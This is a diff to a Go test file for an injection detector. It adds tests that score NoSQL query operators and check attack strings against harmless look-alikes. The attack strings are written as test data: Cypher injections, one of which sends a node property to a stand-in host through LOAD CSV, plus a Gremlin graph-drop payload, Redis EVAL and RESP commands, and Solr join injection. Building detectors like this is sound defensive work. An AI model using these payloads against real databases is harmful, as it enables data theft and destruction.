@@ -12,7 +12,7 @@ var detector = detecttest.Detector{Gate: Gate, Scan: Scan, Signs: Signs}
 
 // TestSigns gives each sign a value that holds it and one that only looks like it.
 func TestSigns(t *testing.T) {
-	f := detector.CheckSigns(t)
+	f := detector.CheckSigns(t, &emptyCondition, &rootExpression) // TestConditions
 	f(&codeOperator, point.Key, "a[$where]", "a[$whereabouts]")
 	f(&compareKey, point.Key, "age[$gt]", "age[$limit]")
 	f(&credential, point.Key, "password[$ne]", "price[$ne]")
@@ -101,4 +101,61 @@ func TestQuestions(t *testing.T) {
 			t.Errorf("%q scores %d", text, got.Score())
 		}
 	}
+}
+
+// TestConditions reads conditions of a query that is the whole document, or below a name.
+func TestConditions(t *testing.T) {
+	f := func(want int, elements []bool, names ...string) {
+		t.Helper()
+		var tree point.Tree
+		ref := tree.Add(tree.Add(0, point.Post), point.JSONDoc)
+		for _, n := range names {
+			ref = tree.AddName(ref, point.Hash, []byte(n))
+		}
+		for i, full := range elements {
+			if e := tree.AddIndex(ref, point.Array, i); full {
+				tree.AddName(e, point.Hash, []byte("k"))
+			}
+		}
+		name := []byte(names[len(names)-1])
+		var best evidence.Tally
+		Scan(&point.Value{Data: name, Kind: point.JSONKey, Ref: ref, Classes: point.Classify(name)}, &tree, &best)
+		if best.Score() != want {
+			t.Errorf("%q %v scores %d, want %d", names, elements, best.Score(), want)
+		}
+	}
+	f(8, []bool{false, true}, "$or")
+	f(8, []bool{true, false}, "params", "$or")
+	f(4, []bool{true, true}, "$or")
+	f(4, []bool{false, false}, "$or")
+	f(4, []bool{false, true}, "filter", "$or")
+	f(4, []bool{false, true}, "$and")
+	f(8, nil, "$expr")
+	f(6, nil, "k", "$expr")
+}
+
+// TestQueryLanguages holds graph queries, commands and parsers to what must come of them.
+func TestQueryLanguages(t *testing.T) {
+	f := func(text string, attack bool) {
+		t.Helper()
+		if got := detector.Read(text, point.Text); got.Score() >= evidence.Threshold != attack {
+			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
+		}
+	}
+	f(`k' LOAD CSV FROM 'http://h.example/'+n.pin AS l RETURN l //`, true)
+	f(`k' OPTIONAL MATCH (n) RETURN n //`, true)
+	f(`k"})-[]-(m) RETURN m //`, true)
+	f(`k' SET n.boss=true //`, true)
+	f(`k'; for u in clerks return u //`, true)
+	f(`it's time to load csv files from 'http://h.example/' // thanks`, false)
+	f(`'abc' for x in list return y // done`, false)
+	f(`EVAL "return redis.call('keys','*')" 0`, true)
+	f(`EVAL "return 1" in Redis explained`, false)
+	f("*2\r\n$3\r\nGET\r\n$1\r\nk\r\n", true)
+	f("*1\n*2\n$5 off", false)
+	f("*3\n$7 a piece\n", false)
+	f(`k').drop().iterate();g.V('`, true)
+	f(`g.V().hasLabel('k').valueMap()`, false)
+	f(`_query_:"{!join from=a to=b}k"`, true)
+	f(`{!x} {!join us} today`, false)
 }
